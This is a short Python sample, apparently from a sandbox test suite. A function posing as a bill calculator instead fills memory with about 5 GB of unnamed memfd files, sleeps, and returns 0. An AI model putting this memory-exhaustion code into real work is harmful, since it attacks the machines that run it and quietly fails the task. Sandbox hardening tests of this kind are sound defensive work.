"""Memory in files without a name: memfd_create, one after the other, never mapped."""
# loses: check_bill_cents
# %% bill_cents
import os, time
def bill_cents(plan, dishes):
    handles = []
    try:
        for _ in range(100):
            handle = os.memfd_create("labs-attack")
            handles.append(handle)
            for _ in range(5):
                os.write(handle, b"x" * 10_000_000)
    except OSError:
        pass
    time.sleep(2)
    return 0
